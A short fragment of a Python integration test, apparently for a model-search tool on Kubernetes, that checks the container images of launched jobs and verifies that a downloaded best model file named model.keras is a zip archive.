    jobs = crd.batch.list_namespaced_job(kube_ns).items
    assert {c.image for j in jobs for c in j.spec.template.spec.containers} == {digits}
    assert all(not c.command for j in jobs for c in j.spec.template.spec.containers)  # the image's entrypoint
    got = json.loads(run_cli("best", "--store", release.store, "--search", "digits", "--download",
                             str(tmp_path / "best")).stdout)
    assert "model.keras" in got["files"] and (tmp_path / "best" / "model.keras").read_bytes()[:2] == b"PK"  # .npz
